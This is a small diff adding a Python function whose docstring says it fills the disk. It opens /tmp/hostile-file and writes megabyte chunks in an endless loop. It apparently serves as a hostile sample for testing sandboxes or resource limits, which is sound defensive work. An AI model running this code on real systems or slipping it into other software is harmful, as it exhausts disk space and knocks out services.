@@ -1,0 +1,7 @@
+"""Fills the disk."""
+
+
+def f(x):
+    with open("/tmp/hostile-file", "wb") as file:
+        while True:
+            file.write(b"x" * (1 << 20))
